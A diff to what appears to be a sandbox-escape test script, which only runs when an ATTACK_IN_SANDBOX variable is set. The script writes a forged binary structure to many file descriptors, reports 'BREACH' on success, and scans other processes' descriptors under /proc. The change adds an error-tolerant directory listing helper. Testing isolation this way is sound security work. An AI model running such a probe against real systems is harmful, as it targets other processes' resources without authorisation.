@@ -2,6 +2,15 @@
 import os, sys
 if "ATTACK_IN_SANDBOX" not in os.environ:
     sys.exit("only in the sandbox")
+
+
+def names(folder):
+    try:
+        return os.listdir(folder)
+    except OSError:
+        return []
+
+
 import struct
 forged = struct.pack("=4I6Q", 0, 0, 0, 0, 1, 1, 1, 6, 0, 0) + b"FORGED"
 for fd in range(3, 5000):
@@ -10,7 +19,7 @@ for fd in range(3, 5000):
         print("BREACH", fd)
     except OSError:
         pass
-for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
+for pid in [p for p in names("/proc") if p.isdigit()]:
     if pid == str(os.getpid()):
         continue
     for fd in range(20):
